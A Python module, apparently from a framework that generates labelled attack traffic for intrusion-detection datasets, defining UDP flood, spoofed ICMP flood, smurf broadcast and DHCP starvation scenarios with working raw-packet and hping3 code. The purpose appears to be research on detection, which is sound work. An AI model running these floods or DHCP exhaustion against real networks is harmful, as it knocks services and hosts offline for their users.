"""Floods of UDP and ICMP. Who is flooded may say that nobody listens: that belongs to the flood, too."""
import contextlib, itertools, socket, struct

from . import raw, scenario, senders
from .floods import TOOLS, anybody, between
from .talk import either
from ..truth import ANY

OPEN = (("services", 53), ("services", 123), ("services", 67), ("services", 514))


def closed(dice):
    """A port that nobody listens at."""
    return dice.choice((80, 443, 1883, 9, 5004, dice.randint(1024, 65535), dice.randint(1024, 65535)))


@scenario("udp-flood-open", "UDP_FLOOD", "datagrams to a service of UDP", TOOLS)
def udp_flood_open(scene):
    (role, port), attacker = scene.dice.choice(OPEN), scene.outsider()
    pelt(scene, attacker, attacker.address, scene.host(role), port, senders.sizes(scene.dice, 1, 600))


@scenario("udp-flood-closed", "UDP_FLOOD", "datagrams to a port that is closed", TOOLS)
def udp_flood_closed(scene):
    attacker = either(scene)
    pelt(scene, attacker, attacker.address, anybody(scene), closed(scene.dice),
         senders.sizes(scene.dice, 1, 1300))


@scenario("udp-flood-ports", "UDP_FLOOD", "datagrams to ports at random")
def udp_flood_ports(scene):
    attacker = either(scene)
    pelt(scene, attacker, attacker.address, anybody(scene), ANY, senders.sizes(scene.dice, 4, 1300))


@scenario("udp-flood-large", "UDP_FLOOD", "datagrams so large that they come in fragments")
def udp_flood_large(scene):
    attacker, dice = scene.outsider(), scene.dice
    victim, port, rate = anybody(scene), closed(dice), between(scene, 80, 400)
    size = senders.sizes(dice, 1600, 9000)
    with scene.attack(attacker.address, victim.address):
        scene.call(attacker, senders.from_socket, scene, attacker.address, victim.address, port, size, rate)


@scenario("udp-flood-spoofed", "UDP_FLOOD", "datagrams from addresses all over the world", TOOLS)
def udp_flood_spoofed(scene):
    port = scene.dice.choice((ANY, closed(scene.dice), 53))
    pelt(scene, scene.outsider(), ANY, anybody(scene), port, senders.sizes(scene.dice, 1, 1200))


@scenario("udp-flood-neighbours", "UDP_FLOOD", "datagrams in the name of unused addresses of the ward")
def udp_flood_neighbours(scene):
    forged = scene.nobodys(scene.dice.randint(10, 100))
    attacker = either(scene)
    pelt(scene, attacker, forged, anybody(scene), closed(scene.dice), senders.sizes(scene.dice, 1, 1200))


def pelt(scene, attacker, src, victim, port, size):
    rate = between(scene, 150, 1800)
    truth = src if src == attacker.address else ANY
    with scene.attack(truth, victim.address, tail=2):
        senders.datagrams(scene, attacker, src, victim.address, port, size, rate)


@scenario("icmp-flood", "ICMP_FLOOD", "echo requests from one address", TOOLS)
def icmp_flood(scene):
    attacker = either(scene)
    ping(scene, attacker, attacker.address, senders.sizes(scene.dice, 4, 1200), between(scene, 60, 1800))


@scenario("icmp-flood-large", "ICMP_FLOOD", "echo requests so large that they come in fragments", ["hping3"])
def icmp_flood_large(scene):
    attacker, victim, dice = scene.outsider(), anybody(scene), scene.dice
    rate, size = between(scene, 50, 400), round(1600 * 5 ** dice.random())
    with scene.attack(attacker.address, victim.address, 1, tail=2):
        scene.run(attacker, "hping3", "-q", "-n", "-I", "eth0", "-a", attacker.address, "--icmp", "-d", size,
                  "-t", dice.choice((64, 128, 255, dice.randint(40, 255))), "-i", f"u{1_000_000 // rate}",
                  "-c", int(rate * scene.seconds), victim.address, seconds=scene.seconds + 2)


@scenario("icmp-flood-spoofed", "ICMP_FLOOD", "echo requests from addresses all over the world", TOOLS)
def icmp_flood_spoofed(scene):
    attacker = either(scene)
    ping(scene, attacker, ANY, senders.sizes(scene.dice, 4, 1200), between(scene, 60, 1800))


def ping(scene, attacker, src, size, rate):
    victim = anybody(scene)
    with scene.attack(src, victim.address, 1, tail=2):
        senders.echoes(scene, attacker, src, victim.address, size, rate)


@scenario("icmp-broadcast", "ICMP_FLOOD", "smurf: echo requests to all in the victim's name")
def icmp_broadcast(scene):
    attacker, dice = scene.insider(), scene.dice
    # Who pings others on purpose takes no part: the truth could not tell one from the other.
    everybody = [host for host in scene.plan.hosts if host.inside and host.role != "visitor"
                 and "monitoring" not in host.habits]
    victim, *others = dice.sample(everybody, len(everybody))
    echoing = others[:dice.randint(3, len(others))]
    style, payload = raw.Style.of(dice), dice.randbytes(dice.randint(0, 1200))
    broadcast, rate = str(scene.plan.inner.broadcast_address), between(scene, 30, 2000 // (len(echoing) + 1))
    packets = (style.ip(index, dice, victim.address, broadcast, 1, raw.icmp(8, struct.pack(
        ">HH", style.port, index & 0xFFFF) + payload)) for index in itertools.count())
    try:
        for host in echoing:
            echo_broadcasts(scene.run, host, True)
        with scene.attack(victim.address, broadcast, 1), _from_all(scene, echoing, victim):
            senders.pour(scene, attacker, packets, rate)
    finally:
        for host in echoing:
            echo_broadcasts(scene.undo, host, False)


def _from_all(scene, hosts, victim):
    """The truth of echo replies of many hosts."""
    stack = contextlib.ExitStack()
    for host in hosts:
        stack.enter_context(scene.attack(host.address, victim.address, 1))
    return stack


def echo_broadcasts(run, host, answers):
    """Whether a host answers to echo requests to all, as old devices do."""
    run(host, "sysctl", "-q", "-w", f"net.ipv4.icmp_echo_ignore_broadcasts={int(not answers)}")


@scenario("dhcp-flood", "UDP_FLOOD", "every lease asked for, each by a machine that is made up")
def dhcp_flood(scene):
    attacker, rate = scene.insider(), between(scene, 20, 500)
    with scene.attack("0.0.0.0", "255.255.255.255", 17, 67):
        scene.call(attacker, discover, scene, rate)


def discover(scene, rate):
    """DHCPDISCOVER (RFC 2131) from one MAC address after the other."""
    dice = scene.dice
    parameters = bytes(dice.sample(range(1, 60), dice.randint(3, 10)))
    name, ttl = bytes(dice.randrange(97, 123) for _ in range(dice.randint(0, 12))), dice.choice((16, 64, 128))
    flags, pad = dice.choice((0, 0x8000)), dice.choice((0, 0, 60))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind(("eth0", 0))
        for _ in range(int(rate * scene.seconds)):
            mac = bytes((dice.randrange(256) & 0xFC, *dice.randbytes(5)))
            body = struct.pack(">BBBBIHH", 1, 1, 6, 0, dice.getrandbits(32), 0, flags) + bytes(16) \
                + mac.ljust(16, b"\0") + bytes(192) + b"\x63\x82\x53\x63\x35\1\1" \
                + (bytes((12, len(name))) + name if name else b"") + bytes((55, len(parameters))) + parameters
            packet = raw.ip("0.0.0.0", "255.255.255.255", 17, raw.udp(
                "0.0.0.0", "255.255.255.255", (68, 67), body + b"\xff" + bytes(pad)), ttl)
            head = packet[:10] + struct.pack(">H", raw.checksum(packet[:20])) + packet[12:]
            link.send(b"\xff" * 6 + mac + b"\x08\x00" + head)
            scene.wait(dice.uniform(0.5, 1.5) / rate)
